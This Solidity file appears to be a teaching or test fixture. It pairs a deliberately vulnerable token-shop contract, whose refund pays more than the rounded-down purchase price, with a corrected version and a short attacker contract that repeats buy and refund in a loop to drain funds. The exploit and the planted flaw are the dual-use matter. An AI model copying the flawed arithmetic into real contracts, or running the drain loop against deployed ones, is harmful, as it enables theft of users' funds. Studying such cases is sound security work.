// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.30;

import {Coin} from "./Coin.sol";

/// @notice VULNERABLE (rounding): the price is rounded down, the refund is by another formula.
contract ShareShop {
    Coin public immutable coin;
    uint256 public immutable perThousand; // coins for a thousand shares
    mapping(address => uint256) public shares;

    constructor(Coin coin_, uint256 perThousand_) {
        (coin, perThousand) = (coin_, perThousand_);
    }

    function buy(uint256 amount) external {
        shares[msg.sender] += amount;
        coin.transferFrom(msg.sender, address(this), _price(amount));
    }

    function refund() external {
        uint256 amount = shares[msg.sender];
        shares[msg.sender] = 0;
        coin.transfer(msg.sender, _worth(amount));
    }

    function _price(uint256 amount) internal view virtual returns (uint256) {
        return (amount * perThousand) / 1000;
    }

    function _worth(uint256 amount) internal view virtual returns (uint256) {
        return amount * perThousand;
    }
}

/// @notice The same, corrected: the price is rounded up, and the refund is no more than was paid.
contract ShareShopFixed is ShareShop {
    constructor(Coin coin_, uint256 perThousand_) ShareShop(coin_, perThousand_) {}

    function _price(uint256 amount) internal view override returns (uint256) {
        return (amount * perThousand + 999) / 1000;
    }

    function _worth(uint256 amount) internal view override returns (uint256) {
        return (amount * perThousand) / 1000;
    }
}

/// @notice Buys and asks for its money back, many times, in one transaction.
contract Shopper {
    function run(ShareShop shop, uint256 amount, uint256 times) external {
        shop.coin().approve(address(shop), type(uint256).max);
        for (uint256 i = 0; i < times; ++i) {
            shop.buy(amount);
            shop.refund();
        }
        shop.coin().transfer(msg.sender, shop.coin().balanceOf(address(this)));
    }
}
